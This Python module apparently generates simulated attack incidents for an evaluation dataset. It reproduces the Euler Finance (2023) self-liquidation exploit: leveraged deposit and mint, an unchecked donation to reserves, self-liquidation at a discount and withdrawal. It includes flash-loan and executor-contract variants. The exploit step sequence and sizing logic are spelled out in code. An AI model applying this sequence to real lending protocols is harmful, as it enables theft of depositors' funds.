"""Making oneself unhealthy by a gift that nobody checks, then liquidating oneself at a discount (Euler)."""

from __future__ import annotations

from dataclasses import dataclass, replace

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.credit import Desk, balance, debt, desks, sub_account
from pipelines.simulation.habits.saving import wait
from pipelines.simulation.world import DEADLINE, ETH, FOREVER, Part, Send, Session, Token, World, send, step

_FREE = 132
"""Thousandths of the debt that can be withdrawn in the end: 80/95 of the debt is left as collateral, its
taker owes 80 percent of that, which 80/95 of it cover; less a little for rounding."""


@dataclass(frozen=True)
class Plan:
    """Amounts in base units; the debtor's and the liquidator's sub-accounts."""

    desk: Desk
    token: Token
    deposit: int
    minted: int
    gift: int
    taken: int
    debtor: int
    liquidator: int


def self_liquidation(world: World, incident: Incident) -> Session:
    """Lever a deposit, give part of it away, take the rest over with less debt, withdraw."""
    rich = [
        (desk, token)
        for desk in desks(world)
        for token in desk.place.tokens
        if world.held(token, desk.place.address) > token.units(5.0)
    ]
    if not rich:
        return
    desk, token = world.pick(rich)
    borrowed = token is world.weth and world.chance(0.5)
    share = 0.05 + 0.9 * world.rng.random()
    first = work_out(world, desk, token, share, 300.0 if borrowed else world.amount(25.0, 0.5))
    who = yield from attacker(world, incident, 0.5 if borrowed else _cost(world, first) / ETH * 1.15)
    if token is not world.weth:
        incident.assets.append(token)
    draw = world.rng.random()
    if borrowed:
        yield from _by_loan(world, incident, who, first, share, scripted=draw < 0.5)
    elif draw < 0.6:
        yield from _by_hand(world, incident, who, first)
    else:
        yield from _by_executor(world, incident, who, first)
    if not incident.exploits:
        return
    incident.finish()
    yield from leave(world, incident, who)


def work_out(world: World, desk: Desk, token: Token, share: float, most: float) -> Plan:
    """Return amounts that take `share` of a desk's cash for at most `most` ether of deposit."""
    held = world.held(token, desk.place.address)
    times = int(world.rng.integers(11, 18))
    deposit = min(int(held * share) * 1000 // (times * _FREE - 1000), token.units(most * 0.9))
    if token is not world.weth:
        deposit = min(deposit, world.reserves(world.weth, token)[1] // 4)
    minted = deposit * times
    left = minted * 838 // 1000
    taken = min(minted * _FREE // 1000, (held + deposit) * 999 // 1000)
    debtor, liquidator = (int(n) for n in world.rng.permutation(5)[:2])
    if world.chance(0.5):
        debtor, liquidator = 0, 1
    return Plan(desk, token, deposit, minted, deposit + minted - left, taken, debtor, liquidator)


def _steps(plan: Plan, me: bytes) -> list[Step]:
    """Return all the calls to the desk for a contract whose address is known."""
    asset, address, one, two = plan.token.address, plan.desk.place.address, plan.debtor, plan.liquidator
    violator = sub_account(me, one)
    return [
        step("credit", address, "deposit", asset, one, plan.deposit),
        step("credit", address, "mint", asset, one, plan.minted),
        step("credit", address, "donateToReserves", asset, one, plan.gift),
        step("credit", address, "liquidate", violator, asset, asset, plan.minted, two),
        step("credit", address, "withdraw", asset, two, plan.taken),
    ]


def _cost(world: World, plan: Plan) -> int:
    """Return what the deposit costs on the pool, in wei."""
    if plan.token is world.weth:
        return plan.deposit
    weth, other = world.reserves(world.weth, plan.token)
    return weth * plan.deposit // (other - plan.deposit) * 1005 // 997


def _buy(world: World, incident: Incident, who: Account, plan: Plan, to: bytes) -> Part:
    """Get the deposit's asset for `to` beforehand."""
    token, stage = plan.token, incident.tag("prep")
    if token is world.weth:
        yield send(who, "weth", token.address, "deposit", value=plan.deposit, tag=stage)
        if to != who.address:
            yield send(who, "weth", token.address, "transfer", to, plan.deposit, tag=stage)
        return
    wei = _cost(world, plan)
    call = ("swapExactETHForTokens", 1, [world.weth.address, token.address], to, DEADLINE)
    yield send(who, "router", world.the("router").address, *call, value=wei, tag=stage)


def _by_hand(world: World, incident: Incident, who: Account, plan: Plan) -> Part:
    """Transactions of one call each, from one account with two sub-accounts or from two accounts."""
    token, desk = plan.token, plan.desk
    asset, address = token.address, desk.place.address
    other, taker = who, plan.liquidator
    incident.variant.append("by-hand")
    if world.chance(0.4):
        incident.variant.append("two-accounts")
        other, taker = world.account(), 0
        incident.parties.append(other.address)
        yield Send(who, other.address, value=ETH // 5, tag=incident.tag("fund"))
    yield from _buy(world, incident, who, plan, who.address)
    yield incident.call("prep", who, "token", asset, "approve", address, FOREVER)
    amount = min(plan.deposit, world.held(token, who.address))
    yield incident.call("prep", who, "credit", address, "deposit", asset, plan.debtor, amount)
    minted = plan.minted * amount // plan.deposit
    yield incident.call("exploit", who, "credit", address, "mint", asset, plan.debtor, minted)
    if world.chance(0.4):
        yield from wait(world, 40)
    debtor = sub_account(who.address, plan.debtor)
    gift = balance(world, desk, token, debtor) - minted * 838 // 1000
    yield incident.call("exploit", who, "credit", address, "donateToReserves", asset, plan.debtor, gift)
    call = ("liquidate", debtor, asset, asset, minted, taker)
    yield incident.call("exploit", other, "credit", address, *call)
    account = sub_account(other.address, taker)
    for part in (50, 100) if world.chance(0.3) else (100,):
        owed = debt(world, desk, token, account) * 1001 // 950
        free = (balance(world, desk, token, account) - owed) * part // 100
        amount = min(free, world.held(token, address))
        if amount > 0:
            yield incident.call("exploit", other, "credit", address, "withdraw", asset, taker, amount)


def _by_executor(world: World, incident: Incident, who: Account, plan: Plan) -> Part:
    """One transaction of an executor with two sub-accounts, given the asset before."""
    tool = yield from runner(world, incident, who)
    incident.variant.append("executor")
    yield from _buy(world, incident, who, plan, tool.address)
    asset = plan.token.address
    steps = [step("token", asset, "approve", plan.desk.place.address, FOREVER), *_steps(plan, tool.address)]
    steps.append(step("token", asset, "transfer", who.address, plan.taken))
    yield from run_steps(world, incident, who, tool, steps)
    yield from home(world, incident, who, tool)


def _by_loan(
    world: World, incident: Incident, who: Account, first: Plan, share: float, *, scripted: bool
) -> Part:
    """With a flash loan of WETH, through an executor or a contract written for it."""
    incident.variant.append("flash-loan")
    desk, weth = first.desk, world.weth
    approve = step("token", weth.address, "approve", desk.place.address, FOREVER)
    if not scripted:
        tool = yield from runner(world, incident, who)
        plan = work_out(world, desk, weth, share, 300.0)
        steps = [approve, *_steps(plan, tool.address)]
        yield from run_flash(world, incident, who, tool, steps, plan.deposit)
        yield from home(world, incident, who, tool)
        return
    incident.variant.append("script")
    lender = world.pick(world.places["flash_lender"]).address
    for _ in range(4):
        plan = replace(work_out(world, desk, weth, share, 300.0), debtor=0, liquidator=1)
        inner = [approve, *_steps(plan, SELF)]
        inner.append(step("token", weth.address, "approve", lender, FOREVER))
        outer = [step("flash_lender", lender, "flashLoan", SELF, weth.address, plan.deposit, b"")]
        done = yield from run_script(world, incident, who, outer, inner=inner)
        if done:
            return


FAMILIES = (
    Family(
        name="self_liquidation",
        tier="structural",
        split="eval",
        modelled_on="Euler Finance (2023)",
        about="Lever a deposit, give part of it to the reserves unchecked, liquidate oneself at the "
        "greatest discount.",
        run=self_liquidation,
    ),
)
